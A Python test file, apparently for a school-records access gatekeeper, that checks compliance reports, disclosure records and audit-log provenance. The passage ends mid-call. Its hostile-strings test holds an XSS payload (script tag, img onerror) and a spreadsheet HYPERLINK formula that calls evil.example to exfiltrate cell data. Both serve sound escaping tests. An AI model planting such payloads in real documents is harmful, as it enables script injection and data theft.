"""Compliance reports, for real: a log built by deciding the public cases, each
report's numbers checked against expectations computed here from the cases'
expected decisions and obligations (not from the report code), the sealed
case never in a record of disclosures, no identifier in the enforcement
report, hostile strings escaped, the checkpoint stated equal to the CLI's, and
every HTML report opened in headless Chromium (DOM and a screenshot)."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

import gatekeeper
from gatekeeper.audit.entry import canonical
from gatekeeper.audit.log import AuditLog
from gatekeeper.audit.note import open_checkpoint
from gatekeeper.audit.verify import verify_log
from gatekeeper.reports import (
    Period,
    Report,
    Snapshot,
    activity_report,
    disclosure_record,
    enforcement_report,
    render,
)
from gatekeeper.reports._render import _csv_safe
from tests.chromium import browse, screenshot_is_a_page
from tests.conftest import POLICIES_DIR, REPO_ROOT

CASES = [
    json.loads(line)
    for line in (Path(__file__).parent / "cases" / "public.jsonl").read_text().splitlines()
    if line.strip()
]

# RULES.md, "Agency catalog" and "Immigration context": the definition, restated here
# so that expectations do not come from the code under test.
IMMIGRATION_AGENCIES = {
    "ICE", "ICE-ERO", "ICE-HSI", "HSI", "DHS", "DHS-ICE", "CBP", "USBP", "USCIS",
    "USCIS-FDNS", "EOIR",
}  # fmt: skip
IMMIGRATION_DOCUMENTS = {
    "admin_warrant_I200", "admin_warrant_I205", "detainer_I247A", "admin_subpoena_I138",
    "eoir_order",
}  # fmt: skip
BLOCKING = {"NOTIFY_PARENT_PRE", "REDACT_OUT_OF_SCOPE", "VERIFY_CONSENT", "VERIFY_IDENTITY"}
RECORD = {"LOG_9932", "LOG_9932_EMERG"}
# The tables count decisions; "complied" is the headline's word for a request
# whose permit was released.
WORD = {"deny": "refused", "escalate": "escalated", "permit": "permitted"}
SEALED_CASE = "A15"  # FERPA-9N: grand-jury subpoena with a non-disclosure order


def immigration_context(request: dict[str, Any]) -> bool:
    requester = request["requester"]
    parties = [
        requester.get("agency"),
        request.get("on_behalf_of"),
        *(request.get("task_force") or []),
    ]
    return (
        requester["kind"] == "immigration_authority"
        or any(p in IMMIGRATION_AGENCIES for p in parties)
        or request.get("purpose") == "immigration_enforcement"
        or bool((request.get("vendor") or {}).get("enforcement_linked"))
        or (request.get("legal_basis") or {}).get("type") in IMMIGRATION_DOCUMENTS
    )


def enforcement_related(case: dict[str, Any]) -> bool:
    """Counted by the board report: an immigration context, or REPORT_BOARD."""
    return immigration_context(case["request"]) or "REPORT_BOARD" in case["expect"]["obligations"]


def record_expected(case: dict[str, Any]) -> bool:
    """In the parent-visible record: LOG_9932(_EMERG), never SEALED_LOG."""
    codes = set(case["expect"]["obligations"])
    return bool(codes & RECORD) and "SEALED_LOG" not in codes


def student_of(case: dict[str, Any]) -> str | None:
    return (case["request"].get("student") or {}).get("id")


RELATED = [c for c in CASES if enforcement_related(c)]
STUDENTS = sorted({s for c in CASES if (s := student_of(c))})


def build_log(data_dir: Path, requests: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Decide each request through gatekeeper.open(data_dir=...).decide."""
    out = []
    with gatekeeper.open(data_dir=data_dir) as gk:
        for request in requests:
            out.append(gk.decide(request).to_dict())
    return out


@dataclass
class Built:
    data_dir: Path
    enforcement: Report
    activity: Report
    records: dict[str, Report]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Built]:
    data_dir = tmp_path_factory.mktemp("public-log")
    decisions = build_log(data_dir, [c["request"] for c in CASES])
    for index, (case, decision) in enumerate(zip(CASES, decisions, strict=True)):
        # The log holds what the cases expect: expectations below rest on it.
        assert decision["decision"] == case["expect"]["decision"], case["id"]
        assert decision["rules"] == case["expect"]["rules"], case["id"]
        assert sorted(decision["obligations"]) == sorted(case["expect"]["obligations"]), case["id"]
        assert decision["audit"]["index"] == index
    with AuditLog.open_sqlite(data_dir) as log:
        snapshot = Snapshot.take(log)
        yield Built(
            data_dir,
            enforcement_report(snapshot),
            activity_report(snapshot),
            {s: disclosure_record(snapshot, s) for s in STUDENTS},
        )


def rows(report: Report, table: str) -> dict[Any, dict[str, Any]]:
    return {r["key"]: r for r in report.table(table).records()}


def by_decision(cases: list[dict[str, Any]], key: Any) -> dict[Any, Counter[str]]:
    out: dict[Any, Counter[str]] = {}
    for case in cases:
        out.setdefault(key(case), Counter())[case["expect"]["decision"]] += 1
    return out


def assert_table(report: Report, table: str, expected: dict[Any, Counter[str]]) -> None:
    got = rows(report, table)
    assert set(got) == set(expected), table
    for key, counts in expected.items():
        row = got[key]
        assert row["decisions"] == sum(counts.values()), (table, key)
        for decision, word in WORD.items():
            assert row[word] == counts[decision], (table, key, word)


# -- provenance ----------------------------------------------------------------------


def test_reports_state_the_latest_checkpoint_and_verification(built: Built) -> None:
    with AuditLog.open_sqlite(built.data_dir) as log:
        cp = open_checkpoint(log.latest_checkpoint() or "", log.keys.verifiers())
    for report in (built.enforcement, built.activity, *built.records.values()):
        p = report.provenance
        assert (p.origin, p.size, p.root) == (cp.origin, len(CASES), cp.root)
        assert p.verified and p.log_verified and p.entries_match
        assert p.signatures == "sample" and p.signatures_checked >= 1
        assert report.to_dict()["checkpoint"]["root"] == base64.b64encode(cp.root).decode()


# -- enforcement ----------------------------------------------------------------------


def test_enforcement_headline_counts(built: Built) -> None:
    decisions = Counter(c["expect"]["decision"] for c in RELATED)
    # A permit held for the parent's notice (or a verification) and never
    # released in this log (it only decides) has not been complied with yet.
    held = [
        c
        for c in RELATED
        if c["expect"]["decision"] == "permit"
        and set(c["expect"]["obligations"])
        & {"NOTIFY_PARENT_PRE", "VERIFY_CONSENT", "VERIFY_IDENTITY"}
    ]
    assert held, "a held immigration permit among the public cases (A10)"
    s = built.enforcement.summary
    # Every public case has its own request id: one request per decision.
    assert s["received"] == len(RELATED) == s["decisions"] == 12
    assert (s["refused"], s["escalated"], s["complied"], s["held"]) == (
        decisions["deny"],
        decisions["escalate"],
        decisions["permit"] - len(held),
        len(held),
    )
    assert s["statement"] == (
        f"Immigration-related requests for student information, all entries: received "
        f"{len(RELATED)}, refused {decisions['deny']}, escalated {decisions['escalate']}, "
        f"complied {decisions['permit'] - len(held)}, permitted but not yet released "
        f"{len(held)}."
    )
    ids = {c["id"] for c in RELATED}
    assert "A25" in ids  # REPORT_BOARD without an immigration context (bulk, origin proxies)
    assert not ids & {"A24", "A31"}  # IMM-14 vendor outside contract, a staff status query


def test_enforcement_breakdowns(built: Built) -> None:
    r = built.enforcement

    def agency(case: dict[str, Any]) -> str:
        requester = case["request"]["requester"]
        if requester.get("agency") in IMMIGRATION_AGENCIES:
            return str(requester["agency"])
        return "(no immigration agency named)"

    assert_table(r, "by_agency", by_decision(RELATED, agency))
    assert_table(
        r,
        "by_document",
        by_decision(RELATED, lambda c: (c["request"].get("legal_basis") or {}).get("type", "none")),
    )
    assert_table(r, "by_channel", by_decision(RELATED, lambda c: c["request"]["channel"]))
    assert_table(
        r, "by_requester_kind", by_decision(RELATED, lambda c: c["request"]["requester"]["kind"])
    )
    assert_table(r, "by_decision", by_decision(RELATED, lambda c: c["expect"]["decision"]))
    assert_table(r, "by_rule", by_decision(RELATED, lambda c: c["expect"]["rules"][0]))
    cited: Counter[str] = Counter(rule for c in RELATED for rule in set(c["expect"]["rules"]))
    assert {k: v["decisions"] for k, v in rows(r, "by_rule_cited").items()} == dict(cited)
    months = rows(r, "by_month")
    assert sum(m["decisions"] for m in months.values()) == len(RELATED)
    (chart,) = r.charts
    assert sum(sum(values) for _, values in chart.series) == len(RELATED)


def _without_provenance(text: str, report: Report) -> str:
    """The output minus what holds base64 (checkpoint note, root) and the SVG charts,
    where a short id could appear by chance."""
    p = report.provenance
    for value in (p.checkpoint, p.root_base64, *p.checkpoint.splitlines()):
        if len(value) > 12:
            text = text.replace(value, "")
            text = text.replace(json.dumps(value)[1:-1], "")
    return re.sub(r"<svg.*?</svg>", "", text, flags=re.S)


def test_enforcement_report_is_deidentified(built: Built) -> None:
    secrets: set[str] = set(STUDENTS)
    for case in CASES:
        request = case["request"]
        secrets.add(request["requester"]["id"])
        for key in ("purpose_text",):
            if request.get(key):
                secrets.add(request[key])
        basis = request.get("legal_basis") or {}
        for key in ("case_no", "judge", "issuing_court"):
            if basis.get(key):
                secrets.add(basis[key])
        for named in basis.get("named_students") or []:
            secrets.update(str(v) for v in named.values())
        agency = request["requester"].get("agency")
        if agency and agency not in IMMIGRATION_AGENCIES:
            secrets.add(agency)  # free-text agency names are not shown
    # Not secrets, but free text all the same: checked apart ("family" is a word of the notes).
    secrets -= {"LAUSD", "family"}
    for fmt in ("html", "csv", "json"):
        text = _without_provenance(render(built.enforcement, fmt).decode(), built.enforcement)
        for secret in sorted(secrets):
            assert not re.search(rf"(?<![\w-]){re.escape(secret)}(?![\w-])", text), (fmt, secret)
        assert "LAUSD" not in text


# -- record of disclosures -------------------------------------------------------------


def test_disclosure_record_holds_exactly_the_recorded_entries(built: Built) -> None:
    for student in STUDENTS:
        expected = [
            index
            for index, case in enumerate(CASES)
            if student_of(case) == student and record_expected(case)
        ]
        record = built.records[student]
        assert [r["entry"] for r in record.table("record").records()] == expected, student
        assert record.summary["entries"] == len(expected)
        assert record.subject == student


def test_sealed_case_never_appears_in_a_record(built: Built) -> None:
    sealed_index = next(i for i, c in enumerate(CASES) if c["id"] == SEALED_CASE)
    sealed = CASES[sealed_index]
    assert "SEALED_LOG" in sealed["expect"]["obligations"]
    student = student_of(sealed)
    assert student is not None
    record = built.records[student]
    assert record.table("record").rows == ()
    assert record.summary["entries"] == 0
    for report in built.records.values():
        assert sealed_index not in [r["entry"] for r in report.table("record").records()]
    for fmt in ("html", "csv", "json"):
        text = render(record, fmt).decode()
        for trace in (
            "FBI",
            "grand_jury",
            "grand-jury",
            "SEALED",
            "FERPA-9N",
            sealed["request"]["purpose_text"],
        ):
            assert trace not in text, (fmt, trace)


def test_disclosure_record_lines(built: Built) -> None:
    by_id = {c["id"]: (i, c) for i, c in enumerate(CASES)}
    lines = {r["entry"]: r for r in built.records["S010"].table("record").records()}
    index, a10 = by_id["A10"]
    line = lines[index]
    assert line["party"] == "ICE-HSI" and line["party_kind"] == "immigration_authority"
    assert line["outcome"] == "permit" and line["rule"] == "IMM-10"
    assert line["legal_basis"] == "judicial_search_warrant"
    # Held for the parent's notice and never released in this log: nothing left.
    assert "NOTIFY_PARENT_PRE" in a10["expect"]["obligations"]
    assert line["fields_disclosed"] == ""
    assert line["released"] == "not released: held for NOTIFY_PARENT_PRE"
    assert line["stated_reason"] == a10["request"]["purpose_text"]
    index, _ = by_id["A12"]
    assert lines[index]["outcome"] == "deny" and lines[index]["fields_disclosed"] == ""
    assert by_id["A11"][0] not in lines  # escalated: the policy put no LOG_9932 on it
    index, _ = by_id["A20"]
    (emergency,) = built.records["S020"].table("record").records()
    assert emergency["entry"] == index and emergency["record_code"] == "LOG_9932_EMERG"
    assert "articulable and significant threat" in emergency["emergency"]
    html = render(built.records["S020"], "html").decode()
    assert "@media print" in html and "articulable and significant threat" in html


def test_a_held_permit_is_a_disclosure_from_its_release(tmp_path: Path) -> None:
    """The warrant (A10) is permitted but held until the parent's notice is
    acknowledged: the record lists no records disclosed until the release,
    which leaves an entry of its own; from then on, the fields and the day."""
    from gatekeeper.guard import ReleaseHeld

    a10 = next(c for c in CASES if c["id"] == "A10")
    student = a10["request"]["student"]["id"]
    with gatekeeper.open(data_dir=tmp_path) as gk:
        with pytest.raises(ReleaseHeld) as held, gk.access(a10["request"]):
            pass
        decision_id = held.value.decision.decision_id
        assert gk.audit is not None
        before = disclosure_record(Snapshot.take(gk.audit), student)
        (line,) = before.table("record").records()
        assert line["fields_disclosed"] == "" and line["released"].startswith("not released")
        assert (before.summary["disclosed"], before.summary["held"]) == (0, 1)
        printed = render(before, "html").decode()  # the page a parent is handed
        assert "Permitted, not released: held for notice to the parent" in printed
        assert "1 permitted but not released" in printed and ">Disclosed" not in printed
        board = enforcement_report(Snapshot.take(gk.audit)).summary
        assert (board["complied"], board["held"]) == (0, 1)
        for row in gk.obligations.list(pending=True, decision_id=decision_id):
            if row.blocking:
                gk.obligations.ack(row.id, by="legal office", note="parent notified")
        size = gk.audit.size()
        gk.release(decision_id)
        (stored,) = gk.audit.store.read_entries(size, size + 1)  # the release's entry
        released = json.loads(stored.data)
        assert released["kind"] == "release"
        assert released["release"]["decision_id"] == decision_id
        assert released["release"]["allowed_fields"] == a10["expect"]["allowed_fields"]
        after = disclosure_record(Snapshot.take(gk.audit), student)
        board = enforcement_report(Snapshot.take(gk.audit)).summary
        assert (board["complied"], board["held"]) == (1, 0)  # released: complied
        assert verify_log(gk.audit.store, gk.audit.keys).ok
    (line,) = after.table("record").records()
    assert line["fields_disclosed"] == ", ".join(a10["expect"]["allowed_fields"])
    local = dt.datetime.fromisoformat(released["timestamp"]).astimezone(
        ZoneInfo("America/Los_Angeles")  # the district's zone: the report's days
    )
    assert line["released"] == local.date().isoformat()
    assert (after.summary["disclosed"], after.summary["held"]) == (1, 0)
    assert f"Disclosed on {line['released']}" in render(after, "html").decode()


def test_a_held_permit_released_in_a_later_period_is_in_that_record(tmp_path: Path) -> None:
    """Decided on 30 December, released on 5 January: the January record lists
    the disclosure (its line cites the decision entry and says when it was
    released), the December one the request with the day of its release. The
    entry records what held it (held_for), so a later change of the pack's
    blocking list does not rewrite the record."""
    a10 = next(c for c in CASES if c["id"] == "A10")
    student = a10["request"]["student"]["id"]
    with gatekeeper.open(data_dir=tmp_path) as gk:
        with pytest.raises(gatekeeper.ReleaseHeld) as held, gk.access(a10["request"]):
            pass
        decision_id = held.value.decision.decision_id
        for row in gk.obligations.list(pending=True, decision_id=decision_id):
            if row.blocking:
                gk.obligations.ack(row.id, by="legal office", note="parent notified")
        gk.release(decision_id)
        assert gk.audit is not None
        entries = [json.loads(e.data) for e in gk.audit.store.read_entries(0, gk.audit.size())]
    decided = next(e for e in entries if e.get("decision_id") == decision_id)
    assert decided["held_for"] == ["NOTIFY_PARENT_PRE"]
    released = next(e for e in entries if e.get("kind") == "release")
    # The same entries, re-dated: the decision on 30 December, the rest in January.
    other = tmp_path / "redated"
    with AuditLog.open_sqlite(other, origin="test.example/redated") as log:
        for value in entries:
            stamp = (
                "2026-12-30T18:00:00.000000Z" if value is decided else "2027-01-05T18:00:00.000000Z"
            )
            log.append(canonical(dict(value, timestamp=stamp)))
        snapshot = Snapshot.take(log)
        december = disclosure_record(
            snapshot, student, period=Period.parse("2026-12-01", "2026-12-31")
        )
        january = disclosure_record(
            snapshot, student, period=Period.parse("2027-01-01", "2027-01-31")
        )
    assert released["release"]["decision_id"] == decision_id
    (line,) = january.table("record").records()
    assert line["date"] == "2026-12-30" and line["released"] == "2027-01-05"
    assert line["fields_disclosed"] == ", ".join(a10["expect"]["allowed_fields"])
    assert january.summary["disclosed"] == 1
    (line,) = december.table("record").records()  # requested then, disclosed in January
    assert (
        line["released"]
        == "not released: held for NOTIFY_PARENT_PRE (released later, on 2027-01-05)"
    )
    assert line["fields_disclosed"] == ""
    assert (december.summary["disclosed"], december.summary["held"]) == (0, 1)


def test_a_release_that_cannot_be_logged_releases_nothing(tmp_path: Path) -> None:
    from gatekeeper.guard import AccessDenied, ReleaseHeld

    a10 = next(c for c in CASES if c["id"] == "A10")
    config = tmp_path / "gatekeeper.toml"
    config.write_text("audit_timeout = 0.3\n")
    with gatekeeper.open(data_dir=tmp_path, config=config) as gk:
        with pytest.raises(ReleaseHeld) as held, gk.access(a10["request"]):
            pass
        decision_id = held.value.decision.decision_id
        for row in gk.obligations.list(pending=True, decision_id=decision_id):
            if row.blocking:
                gk.obligations.ack(row.id, by="legal office", note="parent notified")
        assert gk.audit is not None
        size = gk.audit.size()
        locker = sqlite3.connect(tmp_path / "audit.sqlite", isolation_level=None)
        locker.execute("BEGIN EXCLUSIVE")  # another process holds the write lock
        try:
            with pytest.raises(AccessDenied) as refused:
                gk.release(decision_id)
        finally:
            locker.execute("ROLLBACK")
            locker.close()
        assert refused.value.reason.startswith("audit")
        assert "nothing is released" in str(refused.value)
        assert gk.audit.size() == size
        assert gk.release(decision_id).decision.permitted  # once the log is writable


def test_a_student_id_no_entry_names_gets_a_staff_note(built: Built) -> None:
    with AuditLog.open_sqlite(built.data_dir) as log:
        snapshot = Snapshot.take(log)
        typo = disclosure_record(snapshot, "s010")  # ids are matched exactly
    assert typo.summary["entries"] == 0
    assert any("No decision in the log names the student id 's010'" in n for n in typo.staff_notes)
    assert "s010'" not in render(typo, "html").decode().split('class="staff-only"')[0]
    # A student the log names, with nothing for the record: no such note.
    quiet = [s for s in STUDENTS if not built.records[s].table("record").rows]
    assert quiet, "a student with no recorded request"
    for student in quiet:
        assert not any("No decision" in n for n in built.records[student].staff_notes), student


def test_record_leaves_out_bulk_and_any_sealed_entry(tmp_path: Path) -> None:
    lapd = next(c["request"] for c in CASES if c["id"] == "A30")  # GEN-01 deny, LOG_9932
    build_log(tmp_path, [lapd])
    with AuditLog.open_sqlite(tmp_path) as log:
        (stored,) = log.store.read_entries(0, 1)
        entry = json.loads(stored.data)
        assert "LOG_9932" in entry["obligations"]
        # A roster-wide request with LOG_9932: it cannot be attributed to a student.
        bulk = dict(entry, student=None, bulk={"scope": "school", "grades": []})
        log.append(canonical(dict(bulk, decision_id="bulk-1", request_id="bulk-1")))
        # An entry carrying both LOG_9932 and SEALED_LOG: sealed wins.
        both = dict(entry, obligations=[*entry["obligations"], "SEALED_LOG"])
        log.append(canonical(dict(both, decision_id="sealed-1", request_id="sealed-1")))
        record = disclosure_record(Snapshot.take(log), lapd["student"]["id"])
    assert [r["entry"] for r in record.table("record").records()] == [0]
    assert record.summary["bulk_unattributed"] == 1
    (note,) = record.staff_notes
    assert note.startswith("1 roster-wide (bulk) requests")
    html = render(record, "html").decode()
    assert 'class="staff-only"' in html and ".staff-only, .no-print { display: none" in html
    assert "sealed-1" not in render(record, "json").decode()


# -- activity --------------------------------------------------------------------------


def test_activity_counts(built: Built) -> None:
    r = built.activity
    words = {"deny": "denied", "escalate": "escalated", "permit": "permitted"}

    def check(table: str, expected: dict[Any, Counter[str]]) -> None:
        got = rows(r, table)
        assert set(got) == set(expected), table
        for key, counts in expected.items():
            assert got[key]["decisions"] == sum(counts.values()), (table, key)
            for decision, word in words.items():
                assert got[key][word] == counts[decision], (table, key)

    check("by_decision", by_decision(CASES, lambda c: c["expect"]["decision"]))
    check("by_requester_kind", by_decision(CASES, lambda c: c["request"]["requester"]["kind"]))
    check("by_rule", by_decision(CASES, lambda c: c["expect"]["rules"][0]))
    assert r.summary["decisions"] == len(CASES)
    assert rows(r, "entry_kinds") == {"decision": {"key": "decision", "entries": len(CASES)}}
    escalated = [c["id"] for c in CASES if c["expect"]["decision"] == "escalate"]
    open_rows = r.table("open_escalations").records()
    assert sorted(row["request_id"] for row in open_rows) == sorted(escalated)
    assert r.summary["open_escalations"] == len(escalated)


def test_activity_obligations_outstanding(built: Built) -> None:
    # Every obligation is owed, except REDACT_OUT_OF_SCOPE on a single-student permit,
    # which the guard's redaction meets at once.
    owed: Counter[str] = Counter()
    for case in CASES:
        single_permit = case["expect"]["decision"] == "permit" and "bulk" not in case["request"]
        for code in case["expect"]["obligations"]:
            if not (code == "REDACT_OUT_OF_SCOPE" and single_permit):
                owed[code] += 1
    r = built.activity
    assert r.summary["obligations_outstanding"] == sum(owed.values())
    assert r.summary["blocking_obligations_outstanding"] == sum(
        n for code, n in owed.items() if code in BLOCKING
    )
    got = rows(r, "obligations_by_code")
    assert {k: v["outstanding"] for k, v in got.items()} == dict(owed)
    assert all(v["blocking"] == ("yes" if k in BLOCKING else "no") for k, v in got.items())
    assert len(r.table("obligations_outstanding").rows) == sum(owed.values())


def test_an_escalation_decided_again_is_one_request_and_closed(tmp_path: Path) -> None:
    by_id = {c["id"]: c["request"] for c in CASES}
    approved = dict(by_id["A10"], request_id="A11")  # legal review approved: same request
    decisions = build_log(tmp_path, [by_id["A11"], approved, by_id["A32"]])
    assert [d["decision"] for d in decisions] == ["escalate", "permit", "escalate"]
    with AuditLog.open_sqlite(tmp_path) as log:
        snapshot = Snapshot.take(log)
        enforcement = enforcement_report(snapshot)
        activity = activity_report(snapshot)
    s = enforcement.summary
    # The approved warrant waits for the parent's notice: permitted, not yet released.
    assert (s["received"], s["complied"], s["held"], s["escalated"], s["decisions"]) == (
        1,
        0,
        1,
        0,
        2,
    )
    assert activity.summary["open_escalations"] == 1
    assert activity.summary["resolved_escalations"] == 1
    (still,) = activity.table("open_escalations").records()
    assert still["request_id"] == "A32" and still["entry"] == 2


def test_reports_on_postgresql(built: Built, pg_dsn: str, tmp_path: Path) -> None:
    """The same log on the PostgreSQL store: the same numbers (obligations through the
    API's full listing there)."""
    from gatekeeper.audit.keys import KeyStore
    from gatekeeper.audit.postgres import PostgresStore
    from gatekeeper.engines import EmbeddedEngine, load_pack
    from tests.conftest import POLICIES_DIR

    store = PostgresStore(pg_dsn)
    with AuditLog(store, KeyStore(tmp_path, origin="test.example/reports")) as log:
        gk = gatekeeper.Gatekeeper(engine=EmbeddedEngine(load_pack(POLICIES_DIR)), audit=log)
        for case in CASES:
            gk.decide(case["request"])
        snapshot = Snapshot.take(log)
        activity = activity_report(snapshot)
        enforcement = enforcement_report(snapshot)
        record = disclosure_record(snapshot, "S010")
    assert activity.provenance.verified and activity.provenance.size == len(CASES)
    for key in (
        "decisions",
        "open_escalations",
        "obligations_outstanding",
        "blocking_obligations_outstanding",
    ):
        assert activity.summary[key] == built.activity.summary[key], key
    assert (
        activity.table("obligations_by_code").rows
        == built.activity.table("obligations_by_code").rows
    )
    assert dict(enforcement.summary) == dict(built.enforcement.summary)
    assert [r["entry"] for r in record.table("record").records()] == [
        r["entry"] for r in built.records["S010"].table("record").records()
    ]


def _append_copy(log: AuditLog, template: dict[str, Any], stamp: str, n: int) -> None:
    value = dict(template, timestamp=stamp, decision_id=f"copy-{n}", request_id=f"copy-{n}")
    log.append(canonical(value))


def test_a_period_outside_the_log_says_so(tmp_path: Path) -> None:
    """A zero counted for days the log does not cover is not a measured zero:
    the report names the log's first and last day when the period reaches
    beyond them."""
    ice = next(c["request"] for c in CASES if c["id"] == "A04")
    build_log(tmp_path, [ice])
    with AuditLog.open_sqlite(tmp_path) as log:
        (first,) = log.store.read_entries(0, 1)
        template = json.loads(first.data)
        _append_copy(log, template, "2026-03-10T18:00:00.000000Z", 1)
        _append_copy(log, template, "2026-03-20T18:00:00.000000Z", 2)
        snapshot = Snapshot.take(log)
        before = enforcement_report(snapshot, period=Period.parse("2025-01-01", "2025-12-31"))
        inside = enforcement_report(snapshot, period=Period.parse("2026-03-10", "2026-03-31"))
    assert before.summary["received"] == 0
    assert before.summary["statement"].endswith(
        "The audit log begins on 2026-03-10: nothing before that day is counted."
    )
    assert "begins on" not in inside.summary["statement"]
    assert before.provenance.first_day == dt.date(2026, 3, 10)
    assert any("first entry is of 2026-03-10" in n for n in before.notes), before.notes
    today = dt.datetime.now(ZoneInfo("America/Los_Angeles")).date()
    assert inside.provenance.last_day == today  # the decided request: logged today
    assert not any("first entry" in n for n in inside.notes), inside.notes
    assert not any("last entry" in n for n in inside.notes), inside.notes
    html = render(before, "html").decode()
    assert "first entry is of 2026-03-10" in html


def test_months_periods_and_time_zone(tmp_path: Path) -> None:
    ice = next(c["request"] for c in CASES if c["id"] == "A04")
    build_log(tmp_path, [ice])
    with AuditLog.open_sqlite(tmp_path) as log:
        (first,) = log.store.read_entries(0, 1)
        template = json.loads(first.data)
        # 05:00 UTC on 1 February is still 31 January in Los Angeles.
        for n, stamp in enumerate(
            (
                "2026-01-10T18:00:00.000000Z",
                "2026-02-01T05:00:00.000000Z",
                "2026-03-15T18:00:00.000000Z",
            )
        ):
            _append_copy(log, template, stamp, n)
        snapshot = Snapshot.take(log)
        q1 = enforcement_report(snapshot, period=Period.parse("2026-01-01", "2026-03-31"))
        february = enforcement_report(snapshot, period=Period.parse("2026-02-01", "2026-02-28"))
        utc = enforcement_report(
            snapshot, period=Period.parse("2026-02-01", "2026-02-28", timezone="UTC")
        )
        assert snapshot.provenance.verified
    assert {k: v["decisions"] for k, v in rows(q1, "by_month").items()} == {
        "2026-01": 2, "2026-02": 0, "2026-03": 1,
    }  # fmt: skip
    assert q1.summary["received"] == 3
    assert q1.charts[0].months == ("2026-01", "2026-02", "2026-03")
    assert february.summary["received"] == 0 and february.summary["decisions"] == 0
    assert utc.summary["received"] == 1
    html = render(february, "html").decode()
    assert "nothing to chart" not in html  # the period's month is charted, with zeros


def test_a_report_counts_only_entries_up_to_its_checkpoint(tmp_path: Path) -> None:
    requests = [c["request"] for c in CASES[:10]]
    build_log(tmp_path, requests)
    with AuditLog.open_sqlite(tmp_path) as log:
        snapshot = Snapshot.take(log)
        build_log(tmp_path, [c["request"] for c in CASES[10:]])  # the log grows meanwhile
        assert log.size() == len(CASES)
        report = activity_report(snapshot)
    assert report.provenance.size == 10 and report.provenance.entries_match
    assert report.summary["decisions"] == 10
    assert report.summary["obligations_outstanding"] < 88  # later decisions' rows excluded


def test_a_log_that_does_not_verify_says_so(tmp_path: Path) -> None:
    build_log(tmp_path, [c["request"] for c in CASES[:5]])
    db = sqlite3.connect(tmp_path / "audit.sqlite")
    (data,) = db.execute("SELECT data FROM entries WHERE idx = 3").fetchone()
    db.execute(
        "UPDATE entries SET data = ? WHERE idx = 3",
        (bytes(data).replace(b'"deny"', b'"permit"', 1),),
    )
    db.commit()
    db.close()
    with AuditLog.open_sqlite(tmp_path) as log:
        report = activity_report(Snapshot.take(log))
    p = report.provenance
    assert not p.verified and not p.log_verified and not p.entries_match
    assert any("entry 3" in problem for problem in p.problems)
    html = render(report, "html").decode()
    assert "did NOT verify" in html and "do NOT hash to this root" in html
    result = cli(tmp_path, "report", "activity", "--format", "json")
    assert result.returncode == 1
    assert json.loads(result.stdout)["checkpoint"]["verified"] is False
    assert "LOG DID NOT VERIFY" in result.stderr.decode()


# -- hostile strings --------------------------------------------------------------------

HOSTILE_AGENCY = '<script>alert("agency")</script><img src=x onerror=alert(1)>'
HOSTILE_REASON = '=HYPERLINK("http://evil.example/?"&A1)</td></tr></table><h1 id="pwned">x</h1>'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Report, Report]:
    data_dir = tmp_path_factory.mktemp("hostile-log")
    police = {
        "request_id": "H1", "as_of": "2026-04-02T10:00:00-07:00", "channel": "phone",
        "requester": {"id": "H-officer", "kind": "law_enforcement", "agency": HOSTILE_AGENCY,
                      "identity_verified": True},
        "purpose": "criminal_investigation", "purpose_text": HOSTILE_REASON,
        "student": {"id": "S-H", "age": 12}, "fields": ["home_address"],
    }  # fmt: skip
    immigration = dict(
        police,
        request_id="H2",
        purpose="immigration_enforcement",
        requester=dict(police["requester"], kind="immigration_authority"),
    )
    decisions = build_log(data_dir, [police, immigration])
    assert [d["decision"] for d in decisions] == ["deny", "deny"]
    with AuditLog.open_sqlite(data_dir) as log:
        snapshot = Snapshot.take(log)
        return disclosure_record(snapshot, "S-H"), enforcement_report(snapshot)


def test_hostile_strings_are_escaped(hostile: tuple[Report, Report]) -> None:
    record, enforcement = hostile
    assert len(record.table("record").rows) == 2
    html = render(record, "html").decode()
    assert "<script" not in html and "<img" not in html and 'id="pwned"' not in html
    assert "&lt;script&gt;alert(&#34;agency&#34;)&lt;/script&gt;" in html
    assert "&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;h1" in html
    assert "script-src" not in html and "default-src 'none'" in html  # CSP: no script at all
    table = list(csv.reader(io.StringIO(render(record, "csv").decode())))
    reasons = [row[3] for row in table if row[0] == "record" and row[2] == "stated_reason"]
    assert reasons == ["'" + HOSTILE_REASON] * 2  # not a spreadsheet formula
    data = json.loads(render(record, "json"))
    assert {r["party"] for r in data["tables"]["record"]} == {HOSTILE_AGENCY}
    # The enforcement report names only catalog codes.
    for fmt in ("html", "csv", "json"):
        text = render(enforcement, fmt).decode()
        assert "alert" not in text and "HYPERLINK" not in text, fmt
    assert set(rows(enforcement, "by_agency")) == {"(unlisted immigration agency)"}


# -- the command line -------------------------------------------------------------------


def cli(data_dir: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = dict(os.environ, PYTHONPATH=str(REPO_ROOT))
    return subprocess.run(
        [sys.executable, "-m", "gatekeeper.cli", *args, "--data-dir", str(data_dir)],
        capture_output=True, env=env, timeout=120, check=False,
    )  # fmt: skip


def test_cli_reports_state_the_checkpoint_of_audit_checkpoint(built: Built, tmp_path: Path) -> None:
    result = cli(built.data_dir, "audit", "checkpoint")
    assert result.returncode == 0, result.stderr
    _origin, size, root = result.stdout.decode().splitlines()[:3]
    for args in (("enforcement",), ("disclosures", "--student", "S010"), ("activity",)):
        out = tmp_path / args[0]
        done = cli(built.data_dir, "report", *args, "--format", "all", "--out", str(out))
        assert done.returncode == 0, done.stderr
        assert f"size {size} root {root}: log verified" in done.stderr.decode()
        stated = json.loads((out / f"{args[0]}.json").read_text())["checkpoint"]
        assert (str(stated["size"]), stated["root"], stated["verified"]) == (size, root, True)
        html = (out / f"{args[0]}.html").read_text()
        assert f'id="checkpoint-root">{root}<' in html
        assert f'id="checkpoint-size">{size}<' in html
        table = list(csv.reader((out / f"{args[0]}.csv").open(newline="")))
        assert ["checkpoint", "size", "", size] in table
        # A root that starts like a formula ("+", 1 in 64) is quoted for spreadsheets.
        assert ["checkpoint", "root", "", _csv_safe(root)] in table
    one = cli(
        built.data_dir,
        "report",
        "enforcement",
        "--format",
        "json",
        "--from",
        "2000-01-01",
        "--to",
        "2000-12-31",
    )
